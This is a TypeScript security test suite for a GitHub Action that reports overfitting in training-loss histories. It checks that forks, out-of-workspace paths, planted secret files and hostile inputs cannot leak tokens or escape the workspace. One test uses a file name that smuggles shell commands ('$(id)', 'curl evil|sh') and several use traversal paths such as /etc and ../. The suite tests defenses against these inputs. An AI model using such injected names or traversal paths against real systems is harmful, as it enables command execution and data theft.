import { afterEach, expect, test } from 'vitest';
import { addArtifact, commit, createRepository, fork } from '../github/fake/scene.ts';
import type { Repository } from '../github/fake/state.ts';
import { dispatchPayload } from './events.ts';
import { type Outcome, runAction } from './harness.ts';
import { history, type Lab, mlp, openLab, propose, pullJob, train, trainPull } from './lab.ts';
import { comments, onlyComment } from './read-back.ts';

/** What somebody else's files, commits and branches must not do with our token. */

let lab: Lab;

afterEach(async () => {
  await lab.github.close();
});

const publicTexts = ({ stdout, summary, outputs }: Outcome, bodies: readonly string[]) =>
  [stdout, summary, ...Object.values(outputs), ...bodies].join('\n');

test('the configuration of a commit that nobody reviewed is not read, whatever `sha` says', async () => {
  lab = await openLab({ main: [mlp('calm-1'), mlp('calm-2')] });
  const { world } = lab.github;
  commit(world, lab.repository, 'main', { files: { '.github/loss-doctor.yml': 'fail-on: any\n' } });
  const stranger = fork(world, lab.repository, 'stranger');
  const evil = commit(world, stranger, 'patch', {
    from: 'main',
    files: { '.github/loss-doctor.yml': 'fail-on: never\npath: .\nkey: evil\n' },
  });
  const theirs = { headSha: evil, headBranch: 'patch', headRepository: stranger, event: 'pull_request' };
  const run = train(lab, theirs, mlp('calm-wider'));
  const main = lab.repository.refs.get('refs/heads/main') ?? '';
  for (const event of ['workflow_dispatch', 'repository_dispatch']) {
    const outcome = await runAction({
      ...lab,
      event,
      payload: dispatchPayload(lab.repository, 'main'),
      sha: main,
      ref: 'refs/heads/main',
      runId: run.id + 5,
      inputs: { sha: evil },
      workspace: { 'secret.csv': 'epoch,loss\n1,2\n2,1\n' },
    });
    expect(outcome.stdout).toContain('No loss history found');
    expect(publicTexts(outcome, [])).not.toMatch(/secret|evil/);
  }
});

test('a file of the repository names no path outside of the workspace', async () => {
  lab = await openLab({ main: [mlp('calm-1')] });
  commit(lab.github.world, lab.repository, 'main', { files: { '.github/loss-doctor.yml': 'path: [/etc, ../other]\n' } });
  const pull = propose(lab);
  const outcome = await runAction(pullJob(lab, pull, trainPull(lab, pull, mlp('calm-2'))));
  expect(outcome.stdout.match(/a path in the workspace: not a/g)).toHaveLength(2);
  expect(onlyComment(lab, pull)).not.toMatch(/passwd|hosts/);
});

test('nothing of the workspace is quoted but names, and nothing outside of it is read', async () => {
  lab = await openLab({ main: [mlp('calm-1')] });
  const secret = '0123456789abcdef0123456789abcdef';
  const workspace = {
    'mlp/training.csv': history('calm-1'),
    '.env': `WANDB_API_KEY=${secret}\n`,
    '.config/token.txt': `${secret}\n`,
    'token.txt': `ghp ${secret}\n`,
    'table.csv': `${secret},b\n`,
    'broken.json': `{"loss": [1, 2, ${secret}\n`,
    'keys.json': `{"${secret}": 1, "loss": 2}`,
    'train.log': `Epoch 1/2 - loss: 1.5 - token: ${secret}\nEpoch 2/2 - loss: 1.25 - token: ${secret}\n`,
  };
  for (const path of ['.', '/etc', '../']) {
    const pull = propose(lab, { head: `head${path.length}` });
    const outcome = await runAction(pullJob(lab, pull, trainPull(lab, pull, undefined), { inputs: { path }, workspace }));
    const said = publicTexts(outcome, comments(lab, pull));
    expect(said).not.toContain(secret.slice(0, 12));
    expect(said).not.toMatch(/\.env|\.config|passwd/);
    if (path === '.') expect(onlyComment(lab, pull)).toMatch(/`token\.txt`: unrecognized format/i);
    else expect(said).toContain('is not in the workspace');
  }
});

test('the findings among the outputs mean nothing to a shell', async () => {
  lab = await openLab({ main: [mlp('calm-1')] });
  const pull = propose(lab);
  const name = 'a\'"$(id)`id`;curl evil|sh\u202e';
  const run = trainPull(lab, pull, { [`${name}/training.csv`]: history('calm-wider') });
  const { findings = '' } = (await runAction(pullJob(lab, pull, run))).outputs;
  for (const [string] of findings.matchAll(/"[^"]*"/g)) expect(string).toMatch(/^"(?:[A-Za-z0-9_./ -]|\\u[0-9a-f]{4})*"$/);
  expect(findings.replaceAll(/"[^"]*"/g, '')).toMatch(/^[\][{},:0-9.e+-]*$/);
  const [first] = JSON.parse(findings) as { id: string }[];
  expect(first?.id).toBe('a\'"$(id)`id`;curl evil|sh/overfitting/val_loss');
});

const paths = (repository: Repository, branch: string): readonly string[] => {
  const tip = repository.refs.get(`refs/heads/${branch}`);
  return tip === undefined ? [] : [...repository.git.flatten(repository.git.commit(tip).tree).keys()];
};

test('a branch that holds anything that we do not write is no data branch, here or in another repository', async () => {
  lab = await openLab({ main: [mlp('calm-1')] });
  const { world } = lab.github;
  commit(world, lab.repository, 'develop', { from: 'main', files: { 'dev.py': 'x\n' } });
  commit(world, lab.repository, 'notes', { from: 'main', files: { 'train.py': null, '.github/workflows/training.yml': null } });
  const other = createRepository(world, { fullName: 'octo-lab/other', files: { 'code.py': '1\n' } });
  for (const [at, branch] of ['develop', 'notes', 'main', 'octo-lab/other@main'].entries()) {
    const before = [paths(lab.repository, branch), paths(other, 'main')];
    const pull = propose(lab, { head: `head${at}` });
    const outcome = await runAction(pullJob(lab, pull, trainPull(lab, pull, mlp('calm-2')), { inputs: { 'data-branch': branch } }));
    expect([outcome.exitCode, outcome.outputs['conclusion']]).toEqual([0, 'success']);
    expect(outcome.stdout).toContain('holds files that Loss Doctor did not write');
    expect([paths(lab.repository, branch), paths(other, 'main')]).toEqual(before);
    expect(onlyComment(lab, pull)).toContain('```mermaid');
  }
  const pull = propose(lab, { head: 'refs' });
  const run = trainPull(lab, pull, mlp('calm-2'));
  const refused = await runAction(pullJob(lab, pull, run, { inputs: { 'data-branch': 'refs/heads/main' } }));
  expect([refused.exitCode, refused.stdout]).toEqual([1, expect.stringContaining('NAME or OWNER/REPO@NAME')]);
});

test('our own branch goes on being ours after it was written to', async () => {
  lab = await openLab({ pictures: true, main: [mlp('calm-1')] });
  for (const head of ['a', 'b']) {
    const pull = propose(lab, { head });
    await runAction(pullJob(lab, pull, trainPull(lab, pull, mlp('calm-2')), { inputs: { key: 'gpu' } }));
    expect(onlyComment(lab, pull)).toContain('<picture>');
  }
});

test('neither a thousand artifacts nor a limit that is used up by others makes a red check green without a word', async () => {
  lab = await openLab({ main: [mlp('calm-1')] });
  const pull = propose(lab);
  const run = trainPull(lab, pull, mlp('calm-wider'));
  for (let at = 0; at < 990; at += 1)
    addArtifact(lab.github.world, lab.repository, run, { name: `loss-history-!${at}`, content: { 'x.txt': 'x' } });
  const outcome = await runAction(pullJob(lab, pull, run));
  expect([outcome.exitCode, outcome.outputs['conclusion']]).toEqual([1, 'failure']);
  expect(onlyComment(lab, pull)).toMatch(/^### ❌ Check fails · `mlp` overfits/m);
  expect(lab.token.remaining).toBeGreaterThan(500);
  lab.token.remaining = 0;
  const inputs = { 'fail-on': 'any', 'if-not-judged': 'fail' };
  const { exitCode, outputs, stdout } = await runAction(pullJob(lab, pull, run, { inputs }));
  expect([exitCode, outputs['conclusion']]).toEqual([0, 'neutral']);
  expect(stdout).toMatch(/^::warning::No comment: .*rate limit/m);
});

test('a second artifact that is slow to come or to read leaves the check red', async () => {
  lab = await openLab({ main: [mlp('calm-1'), mlp('calm-2')] });
  const deadline = { LOSS_DOCTOR_DEADLINE_MS: '15000' };
  const pull = propose(lab);
  const run = trainPull(lab, pull, mlp('calm-wider'));
  const junk = Array.from({ length: 400_000 }, (_, i) => `${i.toString(36)} acc it\n`).join('');
  addArtifact(lab.github.world, lab.repository, run, { name: 'loss-history-x', content: { 'junk/train.log': junk } });
  lab.github.faults.add({ route: 'storage', times: 4, fault: { kind: 'delay', milliseconds: 9000 } });
  const outcome = await runAction(pullJob(lab, pull, run, { env: deadline }));
  expect([outcome.exitCode, outcome.outputs['conclusion']]).toEqual([1, 'failure']);
  expect(onlyComment(lab, pull)).toContain('`mlp` overfits, unlike `main`');
});
